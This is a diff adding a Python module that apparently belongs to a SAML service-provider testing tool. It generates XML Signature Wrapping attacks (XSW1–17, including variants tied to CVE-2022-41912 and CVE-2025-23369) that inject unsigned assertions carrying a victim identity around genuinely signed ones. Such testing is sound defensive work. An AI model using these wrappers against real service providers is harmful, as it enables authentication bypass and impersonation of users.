@@ -1,0 +1,245 @@
+"""XSW: XML Signature Wrapping (SAML Raider's XSW1-8, XSW10 and the later shapes)."""
+from __future__ import annotations
+
+import copy
+from typing import Callable
+
+from lxml import etree
+
+from ..builder import DS, SAML, SAMLP, new_id, q
+from . import Fault, FaultContext, register_factory
+from ._common import (
+    _asig,
+    _assertion,
+    _assertion_signed,
+    _drop_sig,
+    _iter_tag,
+    _set_signing,
+    _sig,
+    _victimize,
+)
+
+
+EVIL_RESPONSE_ID = "_evil_response_ID"
+EVIL_ASSERTION_ID = "_evil_assertion_ID"
+# SAML Raider's IDs, suffixed with the original element's (fresh) ID: an SP's replay cache must not
+# be what refuses the second variant of an XSW case, nor the next XSW scenario of the same run.
+def _xsw_response(before_sig: bool) -> Callable[[str | None], Fault]:
+    def make(victim: str | None) -> Fault:
+        def signed(root: etree._Element, ctx: FaultContext) -> None:
+            sig = _sig(root)
+            if sig is None:
+                raise ValueError("XSW1/XSW2 need a signed Response")
+            clone = _drop_sig(copy.deepcopy(root))
+            if before_sig:
+                sig.addprevious(clone)
+            else:
+                sig.append(clone)
+            root.set("ID", EVIL_RESPONSE_ID + root.get("ID", ""))
+            a = root.find(q(SAML, "Assertion"))
+            if a is not None:
+                _victimize(a, victim)
+
+        return Fault("", "", signing=_set_signing(sign_response=True, sign_assertion=False), signed=signed)
+
+    return make
+
+
+def _xsw3(victim: str | None) -> Fault:
+    def signed(root: etree._Element, ctx: FaultContext) -> None:
+        a = _assertion(root)
+        evil = _drop_sig(copy.deepcopy(a))
+        evil.set("ID", EVIL_ASSERTION_ID + a.get("ID", ""))
+        _victimize(evil, victim)
+        a.addprevious(evil)
+
+    return Fault("", "", signing=_assertion_signed(), signed=signed)
+
+
+def _xsw4(victim: str | None) -> Fault:
+    def signed(root: etree._Element, ctx: FaultContext) -> None:
+        a = _assertion(root)
+        evil = _drop_sig(copy.deepcopy(a))
+        evil.set("ID", EVIL_ASSERTION_ID + a.get("ID", ""))
+        _victimize(evil, victim)
+        root.append(evil)
+        evil.append(a)  # moves the signed original inside the evil copy
+
+    return Fault("", "", signing=_assertion_signed(), signed=signed)
+
+
+def _xsw5_6(inside_sig: bool) -> Callable[[str | None], Fault]:
+    def make(victim: str | None) -> Fault:
+        def signed(root: etree._Element, ctx: FaultContext) -> None:
+            a = _assertion(root)
+            copy_ = _drop_sig(copy.deepcopy(a))
+            a.set("ID", EVIL_ASSERTION_ID + a.get("ID", ""))
+            _victimize(a, victim)
+            if inside_sig:
+                _sig(a).append(copy_)
+            else:
+                root.append(copy_)
+
+        return Fault("", "", signing=_assertion_signed(), signed=signed)
+
+    return make
+
+
+def _xsw7(victim: str | None) -> Fault:
+    def signed(root: etree._Element, ctx: FaultContext) -> None:
+        a = _assertion(root)
+        ext = etree.Element(q(SAMLP, "Extensions"))
+        evil = _drop_sig(copy.deepcopy(a))
+        _victimize(evil, victim)
+        ext.append(evil)
+        a.addprevious(ext)
+
+    return Fault("", "", signing=_assertion_signed(), signed=signed)
+
+
+def _xsw8(victim: str | None) -> Fault:
+    def signed(root: etree._Element, ctx: FaultContext) -> None:
+        a = _assertion(root)
+        original = _drop_sig(copy.deepcopy(a))
+        _victimize(a, victim)
+        obj = etree.SubElement(_sig(a), q(DS, "Object"))
+        obj.append(original)
+
+    return Fault("", "", signing=_assertion_signed(), signed=signed)
+
+
+_XSW = {
+    1: (_xsw_response(False), "Clone of the signed Response (no Signature) inside the Response's ds:Signature; outer Response renamed _evil_response_ID"),
+    2: (_xsw_response(True), "Clone of the signed Response (no Signature) just before the Response's ds:Signature; outer Response renamed _evil_response_ID"),
+    3: (_xsw3, "Unsigned evil Assertion copy (ID _evil_assertion_ID) inserted before the signed Assertion"),
+    4: (_xsw4, "Unsigned evil Assertion copy appended to the Response with the signed Assertion moved inside it"),
+    5: (_xsw5_6(False), "Signed Assertion renamed _evil_assertion_ID in place (keeps its Signature); unsigned original copy appended to the Response"),
+    6: (_xsw5_6(True), "Signed Assertion renamed _evil_assertion_ID in place; unsigned original copy placed inside its ds:Signature"),
+    7: (_xsw7, "samlp:Extensions holding an unsigned Assertion copy (same ID) inserted before the signed Assertion"),
+    8: (_xsw8, "Signed Assertion edited in place (same ID); unsigned original copy in a new ds:Object inside its ds:Signature"),
+}
+for _n, (_make, _desc) in _XSW.items():
+    register_factory(
+        f"xsw-{_n:02d}", _desc + " (victim: NameID of the evil copy; none = unchanged values)",
+        (f"XSW-{_n:02d}", f"SAML Raider applyXSW{_n}", "Somorovsky et al. 2012, On Breaking SAML"),
+        victim=None,
+    )(_make)
+
+
+@register_factory("two-assertions", "A second, unsigned Assertion (ID + '_attack', optional victim NameID) appended after the signed one",
+                  ("XSW-11", "XSW-13", "MAS-02", "CVE-2022-41912"), victim=None)
+def _two_assertions(victim: str | None) -> Fault:
+    def signed(root: etree._Element, ctx: FaultContext) -> None:
+        a = _assertion(root)
+        b = _drop_sig(copy.deepcopy(a))
+        b.set("ID", a.get("ID") + "_attack")
+        _victimize(b, victim)
+        a.addnext(b)
+
+    return Fault("", "", signing=_assertion_signed(), signed=signed)
+
+
+def _xsw_response_in_response(victim: str | None) -> Fault:
+    def signed(root: etree._Element, ctx: FaultContext) -> etree._Element:
+        outer = copy.deepcopy(root)
+        for s in _iter_tag(outer, q(DS, "Signature")):
+            s.getparent().remove(s)
+        outer.set("ID", new_id())
+        a = outer.find(q(SAML, "Assertion"))
+        if a is not None:
+            a.set("ID", new_id())
+            _victimize(a, victim)
+        outer.append(root)
+        return outer
+
+    return Fault("", "", signed=signed)
+
+
+register_factory("xsw-response-in-response",
+                 "An unsigned attacker Response (new IDs) wrapping the valid signed Response as its last child",
+                 ("XSW-10", "pysaml2 signed-xsw-response-in-response"), victim=None)(_xsw_response_in_response)
+
+
+def _xsw_wrapper(victim: str | None) -> Fault:
+    def signed(root: etree._Element, ctx: FaultContext) -> None:
+        a = _assertion(root)
+        evil = _drop_sig(copy.deepcopy(a))
+        _victimize(evil, victim)
+        wrapper = etree.Element("{urn:samlconf:decoy}Wrapper", nsmap={"decoy": "urn:samlconf:decoy"})
+        a.addprevious(evil)
+        root.remove(a)
+        wrapper.append(a)
+        evil.addnext(wrapper)
+
+    return Fault("", "", signing=_assertion_signed(), signed=signed)
+
+
+register_factory("xsw-wrapper",
+                 "The signed Assertion moved into an unknown wrapper element; an unsigned copy (same ID) is the direct child",
+                 ("XSW-12",), victim=None)(_xsw_wrapper)
+
+
+@register_factory("advice-assertion", "The signed Assertion carries, in saml:Advice, an unsigned Assertion for a victim",
+                  ("XSW-17",), victim="victim@example.com")
+def _advice(victim: str) -> Fault:
+    def tree(root: etree._Element, ctx: FaultContext) -> None:
+        a = _assertion(root)
+        inner = copy.deepcopy(a)
+        inner.set("ID", new_id())
+        _victimize(inner, victim)
+        advice = etree.Element(q(SAML, "Advice"))
+        advice.append(inner)
+        a.find(q(SAML, "Conditions")).addnext(advice)
+
+    return Fault("", "", tree=tree)
+
+
+@register_factory("xsw-foreign-signed",
+                  "Response and Assertion unsigned (victim optional); samlp:Extensions holds a genuine IdP-signed other document "
+                  "(source=error: a signed error Response; source=metadata: the signed IdP metadata)",
+                  ("XSW-14", "XSW-15", "XSW-16"), source="error", victim=None)
+def _foreign(source: str, victim: str | None) -> Fault:
+    if source not in ("error", "metadata"):
+        raise ValueError("source must be error or metadata")
+
+    def signed(root: etree._Element, ctx: FaultContext) -> None:
+        idp = ctx.idp
+        if source == "error":
+            from ..builder import STATUS_REQUESTER, build_status_response
+            from ..signing import sign
+
+            other = build_status_response(issuer=idp.entity_id, destination=ctx.spec.destination,
+                                          in_response_to=None, status_code=STATUS_REQUESTER)
+            sign(other, other, ctx.signing.key or idp.key)
+        else:
+            other = etree.fromstring(idp.metadata_xml(sign=True))
+        ext = etree.Element(q(SAMLP, "Extensions"))
+        ext.append(other)
+        root.find(q(SAML, "Issuer")).addnext(ext)
+        a = root.find(q(SAML, "Assertion"))
+        if a is not None:
+            _victimize(a, victim)
+        ctx.notes["foreign_id"] = other.get("ID")
+
+    return Fault("", "", signing=_set_signing(sign_response=False, sign_assertion=False), signed=signed)
+
+
+@register_factory("xsw-cve-2025-23369",
+                  "Response signature removed; the Assertion's signature copied under the Response after Issuer with a "
+                  "ds:Object holding the original Assertion; the real Assertion renamed ID+'ffff' (victim optional)",
+                  ("XSW-09", "CVE-2025-23369"), victim=None)
+def _xsw09(victim: str | None) -> Fault:
+    def signed(root: etree._Element, ctx: FaultContext) -> None:
+        rs = _sig(root)
+        if rs is not None:
+            root.remove(rs)
+        a = _assertion(root)
+        original = _drop_sig(copy.deepcopy(a))
+        sig_copy = copy.deepcopy(_asig(root))
+        obj = etree.SubElement(sig_copy, q(DS, "Object"))
+        obj.append(original)
+        root.find(q(SAML, "Issuer")).addnext(sig_copy)
+        a.set("ID", a.get("ID") + "ffff")
+        _victimize(a, victim)
+
+    return Fault("", "", signing=_set_signing(sign_response=True, sign_assertion=True), signed=signed)
